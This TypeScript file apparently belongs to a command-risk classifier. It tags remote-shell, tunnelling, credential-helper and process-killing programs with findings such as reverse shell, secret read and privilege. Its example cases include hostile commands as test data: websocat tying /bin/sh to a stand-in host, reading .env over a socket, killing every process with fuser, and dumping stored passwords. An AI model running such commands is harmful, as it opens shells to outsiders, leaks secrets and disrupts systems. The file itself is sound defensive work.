import { meaningsOf, reverseShell, shellText } from '../carried.ts';
import {
	exec,
	type Finding,
	type Invocation,
	network,
	opaque,
	type Program,
	privilege,
	rows,
	secret,
} from '../program.ts';
import { contacts, credentialsIn } from '../roles.ts';

/** Programs that hand a terminal, or a program, to whoever is on the other side. */
export const remoteShells = (): readonly Program[] => [
	rows('tmate upterm teleconsole sshx termshare warp-terminal', {
		also: (it) =>
			it.has('-V') ? [] : [network('a tunnel'), exec(it), reverseShell('a terminal is shared with others')],
		examples: { 'tmate -F': ['network a tunnel', 'exec tmate', 'opaque'], 'tmate -V': [] },
	}),
	rows('ttyd gotty wetty shellinabox shellinaboxd websocketd gs-netcat pwncat pwncat-cs rcat rustcat sbd', {
		also: (it) => [network('any host'), exec(it), reverseShell(`${it.name} ties a program to a connection`)],
		examples: { 'ttyd -p 80 bash': ['network any host', 'exec ttyd', 'opaque'] },
	}),
	rows('websocat wscat', {
		also: websocket,
		examples: {
			'websocat ws://e.example/': ['network e.example', 'exec websocat'],
			'websocat ws://e.example/ exec:/bin/sh': ['network e.example', 'exec websocat', 'opaque'],
			"websocat ws://e.example/ sh-c:'rm d'": ['network e.example', 'exec websocat', 'opaque', 'delete d'],
			'websocat ws-l:0.0.0.0:1 cmd:sh': ['exec websocat', 'opaque'],
			'websocat ws://e.example/ readfile:.env': ['network e.example', 'exec websocat', 'secret.read .env'],
		},
	}),
	rows('fuser', {
		also: (it) => [
			exec(it),
			...(it.has('-k', '--kill') && it.operands.some((word) => /^\/(\w+\/?)?$/.test(word.text))
				? [privilege('stops every process')]
				: []),
		],
		examples: {
			'fuser -v a': ['exec fuser'],
			'fuser -k 8080/tcp': ['exec fuser'],
			'fuser --kill -9 --mount /': ['exec fuser', 'privilege stops every process'],
			'fuser -km /home': ['exec fuser', 'privilege stops every process'],
		},
	}),
	// Helpers of docker, git and the clouds that print what they keep.
	rows(
		'docker-credential git-credential-manager git-credential-manager-core git-credential-store git-credential-cache',
		{
			also: (it) => [
				exec(it),
				...meaningsOf(it, [{ operands: /^(get|list|fill)\b/, means: [secret('a stored password')] }]),
			],
			examples: {
				'echo r.example | docker-credential-desktop get': [
					'exec docker-credential-desktop',
					'secret.read a stored password',
				],
				'docker-credential-pass version': ['exec docker-credential-pass'],
			},
		},
	),
	rows('aws-iam-authenticator gke-gcloud-auth-plugin kubelogin aws_signing_helper saml2aws aws-sso okta-aws-cli', {
		also: (it) => [network('a cloud'), exec(it), secret('credentials of the cloud')],
		examples: {
			'aws-iam-authenticator token -i c': [
				'network a cloud',
				'exec aws-iam-authenticator',
				'secret.read credentials of the cloud',
			],
		},
	}),
];

const program = /^(?:\w[\w-]*:)*?(exec|cmd|sh-c):(.*)$/s;

/** websocat ties two addresses together, as socat does. */
function websocket(it: Invocation): readonly Finding[] {
	const ends = it.operands.flatMap((word): readonly Finding[] => {
		const [, kind, line = ''] = program.exec(word.text) ?? [];
		if (kind !== undefined) return [reverseShell('websocat ties a program to a connection'), shellText(line)];
		const file = /^(?:\w[\w-]*:)*?(?:readfile|writefile|appendfile|file):(.+)$/s.exec(word.text)?.[1];
		if (file !== undefined) return credentialsIn([{ ...word, text: file, prefix: word.known ? file : '' }], it.scope);
		return /^wss?:\/\//.test(word.prefix) ? contacts(word, it.scope) : [];
	});
	const isUnknown = it.operands.some((word) => !word.known);
	return [exec(it), ...ends, ...(isUnknown ? [opaque('an address that cannot be known')] : [])];
}
